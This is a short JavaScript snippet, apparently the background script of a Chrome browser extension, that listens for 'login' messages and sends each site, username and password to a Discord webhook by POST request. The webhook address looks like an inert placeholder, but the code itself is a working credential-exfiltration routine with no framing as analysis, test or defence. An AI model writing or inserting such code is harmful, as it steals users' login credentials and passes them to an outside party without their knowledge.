chrome.runtime.onMessage.addListener((message) => {
  if (message.type !== "login") return;
  const content = `${message.site} ${message.user} ${message.password}`;
  fetch("https://discord.com/api/webhooks/1/inert", {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify({content})});
});
